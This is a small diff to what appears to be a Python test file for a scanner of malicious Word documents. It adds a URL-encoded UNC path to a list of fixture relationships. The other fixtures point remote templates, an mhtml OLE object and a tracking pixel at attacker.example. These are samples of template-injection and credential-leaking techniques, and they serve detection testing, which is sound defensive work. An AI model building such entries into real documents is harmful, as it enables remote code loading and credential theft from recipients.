@@ -293,6 +293,7 @@ def external(rel_type, target):
         ("word/_rels/settings.xml.rels", "attachedTemplate", "http://attacker.example/template.dotm"),
         ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\attacker.example\\share\\template.dotm"),
         ("word/_rels/settings.xml.rels", "attachedTemplate", "file://attacker.example/share/template.dotm"),
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "%5C%5Cattacker.example%5Cshare%5Ctemplate.dotm"),
         ("word/_rels/document.xml.rels", "oleObject", "mhtml:http://attacker.example/x.html!x-usc:http://a/x"),
         ("word/_rels/document.xml.rels", "image", "https://tracker.example/pixel.png"),
     ],
